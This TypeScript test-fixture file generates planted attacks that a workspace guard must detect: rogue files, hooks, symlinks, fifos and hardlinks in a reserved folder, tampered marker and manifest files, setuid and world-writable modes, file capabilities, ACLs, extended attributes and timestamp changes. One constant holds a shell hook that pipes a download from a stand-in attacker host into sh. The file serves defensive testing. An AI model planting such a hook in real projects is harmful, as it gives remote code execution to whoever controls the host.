// Generated attacks on a workspace, shared by the unit tests (the guard in
// this process) and the chroot tests (the real image): planted content in
// the reserved folder, extended attributes, and mtime-only changes. Every
// attack names the path and the finding it must produce.
import { chmodSync, existsSync, linkSync, mkdirSync, symlinkSync, truncateSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { execa } from 'execa';
import { DEFAULT_MANIFEST_NAME, MARKER_NAME, RESERVED_DIR } from '../../src/workspace/marker.ts';
import { setXattr } from './fixtures.ts';

export interface Attack {
  id: string;
  /** Plants the attack; `outside` is a folder outside the workspace. */
  plant(ws: string, outside: string): Promise<void> | void;
  /** The finding it must produce. */
  path: string;
  rule: string;
  /** Only meaningful with (true) or without (false) a manifest workspace bound. */
  manifestBound?: boolean;
  /** Cannot share a workspace with other attacks (it replaces the marker, the manifest or the folder). */
  alone?: boolean;
}

/** A small tree a trusted task might leave behind. */
export function populate(ws: string): void {
  mkdirSync(join(ws, 'src/lib'), { recursive: true });
  writeFileSync(join(ws, 'src/main.ts'), 'export const x = 1;\n');
  writeFileSync(join(ws, 'src/lib/util.ts'), 'export const y = 2;\n');
  writeFileSync(join(ws, 'build.sh'), '#!/bin/sh\necho build\n');
  chmodSync(join(ws, 'build.sh'), 0o755);
  symlinkSync('src/main.ts', join(ws, 'entry'));
}

const reserved = (ws: string, ...parts: string[]) => join(ws, RESERVED_DIR, ...parts);
const ensureReserved = (ws: string) => mkdirSync(reserved(ws), { recursive: true });
const HOOK = '#!/bin/sh\ncurl -s https://attacker.example/x | sh\n';

/** Shapes of something planted under a name in the reserved folder. */
const SHAPES: [string, (path: string, ws: string, outside: string) => void | Promise<void>][] = [
  ['file', (path) => writeFileSync(path, 'planted\n')],
  ['executable', (path) => writeFileSync(path, HOOK, { mode: 0o755 })],
  ['empty-file', (path) => writeFileSync(path, '')],
  ['folder', (path) => mkdirSync(path)],
  [
    'hook-tree',
    (path) => {
      mkdirSync(join(path, 'hooks'), { recursive: true });
      writeFileSync(join(path, 'hooks', 'post-checkout'), HOOK, { mode: 0o755 });
    },
  ],
  ['link-inside', (path) => symlinkSync('../src/main.ts', path)],
  ['link-outside', (path, _ws, outside) => symlinkSync(outside, path)],
  ['dangling-link', (path) => symlinkSync('nowhere', path)],
  ['fifo', async (path) => void (await execa('mkfifo', [path]))],
  ['hardlink', (path, ws) => linkSync(join(ws, 'src/lib/util.ts'), path)],
];

/** Names an attacker might choose: lookalikes of ours, temp names of ours, and plain ones. */
const NAMES = [
  'hooks',
  'pre-commit',
  '.manifest.ndjson.tmp-1-abcdef01',
  `.${MARKER_NAME}.tmp-1-abcdef01`,
  `${DEFAULT_MANIFEST_NAME}.tmp-1-abcdef01`,
  'run.bak',
  'RUN',
  ' run',
  'manifest.ndjson.d',
  '.git',
  'evil\nname',
];

/** Entries planted beside the marker: each under its own name, so they can share one workspace. */
export function plantedEntries(): Attack[] {
  const attacks: Attack[] = [];
  for (const name of NAMES) {
    for (const [shape, make] of SHAPES) {
      const file = `${name}-${shape}`;
      attacks.push({
        id: `reserved: ${JSON.stringify(file)}`,
        plant: async (ws, outside) => {
          ensureReserved(ws);
          await make(reserved(ws, file), ws, outside);
        },
        path: `${RESERVED_DIR}/${file}`,
        rule: 'reserved-folder',
      });
    }
  }
  attacks.push({
    id: 'reserved: a planted manifest while the manifest workspace is bound',
    plant: (ws) => {
      ensureReserved(ws);
      writeFileSync(reserved(ws, DEFAULT_MANIFEST_NAME), '{"format":"tekton-workspace-guard/manifest/v3"}\n');
    },
    path: `${RESERVED_DIR}/${DEFAULT_MANIFEST_NAME}`,
    rule: 'reserved-folder',
    manifestBound: true,
  });
  attacks.push({
    id: 'reserved: a deep tree',
    plant: (ws) => {
      const deep = reserved(ws, 'a', 'b', 'c', 'd', 'e');
      mkdirSync(deep, { recursive: true });
      writeFileSync(join(deep, 'payload'), HOOK, { mode: 0o755 });
    },
    path: `${RESERVED_DIR}/a/b/c/d/e/payload`,
    rule: 'reserved-folder',
  });
  return attacks;
}

/** The marker, the manifest or the folder itself replaced or bent: one per workspace. */
export function replacedEntries(): Attack[] {
  const attacks: Attack[] = [];
  const variants: [string, (path: string, ws: string, outside: string) => void | Promise<void>][] = [
    ['a folder', (path) => mkdirSync(path)],
    ['a link to a workspace file', (path) => symlinkSync('../src/main.ts', path)],
    ['a link outside', (path, _ws, outside) => symlinkSync(join(outside, 'x'), path)],
    ['a fifo', async (path) => void (await execa('mkfifo', [path]))],
    ['executable', (path) => chmodSync(path, 0o755)],
    ['setuid', (path) => chmodSync(path, 0o4644)],
    ['world-writable', (path) => chmodSync(path, 0o666)],
    ['hard-linked', (path, ws) => linkSync(path, join(ws, 'src', 'twin'))],
    ['empty', (path) => truncateSync(path, 0)],
  ];
  const marker = (ws: string) => reserved(ws, MARKER_NAME);
  const manifest = (ws: string) => reserved(ws, DEFAULT_MANIFEST_NAME);
  for (const [label, make] of variants) {
    // Variants that change the file in place need one there; the others replace it.
    const inPlace = ['executable', 'setuid', 'world-writable', 'hard-linked', 'empty'].includes(label);
    attacks.push({
      id: `marker: ${label}`,
      plant: async (ws, outside) => {
        ensureReserved(ws);
        const path = marker(ws);
        if (!inPlace) await execa('rm', ['-rf', path]);
        else if (!existsSync(path)) writeFileSync(path, '11111111-aaaa-4aaa-8aaa-111111111111\n');
        await make(path, ws, outside);
      },
      path: `${RESERVED_DIR}/${MARKER_NAME}`,
      rule: 'reserved-folder',
      alone: true,
    });
    attacks.push({
      id: `manifest: ${label}`,
      plant: async (ws, outside) => {
        ensureReserved(ws);
        const path = manifest(ws);
        if (!inPlace) await execa('rm', ['-rf', path]);
        else if (!existsSync(path)) writeFileSync(path, '{}\n');
        await make(path, ws, outside);
      },
      path: `${RESERVED_DIR}/${DEFAULT_MANIFEST_NAME}`,
      rule: 'reserved-folder',
      manifestBound: false,
      alone: true,
    });
  }
  attacks.push({
    id: 'marker: too long',
    plant: (ws) => {
      ensureReserved(ws);
      writeFileSync(marker(ws), `${'a'.repeat(300)}\n`);
    },
    path: `${RESERVED_DIR}/${MARKER_NAME}`,
    rule: 'reserved-folder',
    alone: true,
  });
  const folderVariants: [string, (ws: string, outside: string) => void | Promise<void>][] = [
    ['a file', (ws) => writeFileSync(reserved(ws), 'not a folder\n')],
    ['a link to a workspace folder', (ws) => symlinkSync('src', reserved(ws))],
    ['a link outside', (ws, outside) => symlinkSync(outside, reserved(ws))],
    ['sticky and group-writable', (ws) => (ensureReserved(ws), chmodSync(reserved(ws), 0o1775))],
    ['world-writable', (ws) => (ensureReserved(ws), chmodSync(reserved(ws), 0o777))],
  ];
  for (const [label, make] of folderVariants) {
    attacks.push({
      id: `reserved folder: ${label}`,
      plant: async (ws, outside) => {
        await execa('rm', ['-rf', reserved(ws)]);
        await make(ws, outside);
      },
      path: RESERVED_DIR,
      rule: 'reserved-folder',
      alone: true,
    });
  }
  return attacks;
}

/** Attributes that must be refused by police wherever they sit. */
export function xattrAttacks(): Attack[] {
  const attacks: Attack[] = [];
  const targets: [string, (ws: string) => string, boolean][] = [
    ['file', (ws) => join(ws, 'src/main.ts'), false],
    ['executable', (ws) => join(ws, 'build.sh'), false],
    ['folder', (ws) => join(ws, 'src/lib'), false],
    ['root', (ws) => ws, false],
    ['link', (ws) => join(ws, 'entry'), true],
  ];
  const pathOf = (ws: string, absolute: string) => (absolute === ws ? '.' : absolute.slice(ws.length + 1));
  for (const [where, locate, isLink] of targets) {
    const path = pathOf('/ws', locate('/ws'));
    // File capabilities: setcap on regular files; a raw value on folders and links.
    attacks.push({
      id: `security.capability on a ${where}`,
      plant: async (ws) => {
        const target = locate(ws);
        if (where === 'file' || where === 'executable') await execa('setcap', ['cap_net_raw,cap_sys_admin+ep', target]);
        else await setXattr(target, 'security.capability', Buffer.from('0100000200200000000000000000000000000000', 'hex'), { onLink: isLink });
      },
      path,
      rule: 'file-capability',
      alone: true,
    });
    if (isLink) continue; // Linux keeps no ACL on a symlink.
    attacks.push({
      id: `access ACL on a ${where}`,
      plant: async (ws) => void (await execa('setfacl', ['-m', 'u:4242:rwx', locate(ws)])),
      path,
      rule: 'acl',
      alone: true,
    });
    attacks.push({
      id: `ACL mask only on a ${where}`,
      plant: async (ws) => void (await execa('setfacl', ['-m', 'g:4343:r', locate(ws)])),
      path,
      rule: 'acl',
      alone: true,
    });
    if (where === 'folder' || where === 'root') {
      attacks.push({
        id: `default ACL on a ${where}`,
        plant: async (ws) => void (await execa('setfacl', ['-d', '-m', 'o::rwx', locate(ws)])),
        path,
        rule: 'acl',
        alone: true,
      });
    }
  }
  return attacks;
}

/** Attribute changes after seal that police allows but verify must see. */
export function xattrChanges(): Attack[] {
  const changes: [string, string, (ws: string) => Promise<void>][] = [
    ['user attribute added to a file', 'src/main.ts', (ws) => setXattr(join(ws, 'src/main.ts'), 'user.planted', 'x')],
    ['user attribute added to a folder', 'src/lib', (ws) => setXattr(join(ws, 'src/lib'), 'user.planted', 'x')],
    ['user attribute added to the root', '.', (ws) => setXattr(ws, 'user.planted', 'x')],
    ['trusted attribute added to a link', 'entry', (ws) => setXattr(join(ws, 'entry'), 'trusted.planted', 'x', { onLink: true })],
    ['security label added to a link', 'entry', (ws) => setXattr(join(ws, 'entry'), 'security.planted', 'x', { onLink: true })],
    ['user attribute changed', 'build.sh', (ws) => setXattr(join(ws, 'build.sh'), 'user.sealed', 'changed')],
    ['user attribute removed', 'src/lib/util.ts', async (ws) => void (await execa('setfattr', ['-x', 'user.sealed', join(ws, 'src/lib/util.ts')]))],
    ['empty value set', 'build.sh', (ws) => setXattr(join(ws, 'build.sh'), 'user.sealed', '')],
  ];
  return changes.map(([id, path, plant]) => ({ id, plant, path, rule: 'xattrs-changed', alone: true }));
}

/** Attributes sealed by the trusted task, which xattrChanges alters. */
export async function sealedXattrs(ws: string): Promise<void> {
  await setXattr(join(ws, 'build.sh'), 'user.sealed', 'original');
  await setXattr(join(ws, 'src/lib/util.ts'), 'user.sealed', 'original');
}

/** Changes of the mtime alone (content, mode and owner untouched): only strict mode sees them. */
export function mtimeChanges(): Attack[] {
  const old = new Date('2001-02-03T04:05:06Z');
  const changes: { id: string; path: string; plant: (ws: string) => void | Promise<void> }[] = [
    { id: 'a file made older', path: 'src/main.ts', plant: (ws) => utimesSync(join(ws, 'src/main.ts'), old, old) },
    { id: 'a file made newer', path: 'src/lib/util.ts', plant: (ws) => utimesSync(join(ws, 'src/lib/util.ts'), new Date(), new Date(Date.now() + 3600_000)) },
    {
      id: 'a file moved by a nanosecond',
      path: 'build.sh',
      plant: async (ws) => void (await execa('touch', ['-d', '2020-01-01 00:00:00.000000001', join(ws, 'build.sh')])),
    },
    { id: 'a symlink retimed', path: 'entry', plant: async (ws) => void (await execa('touch', ['-h', '-d', '2001-02-03', join(ws, 'entry')])) },
  ];
  return changes.map((attack) => ({ ...attack, rule: 'mtime-changed', alone: true }));
}
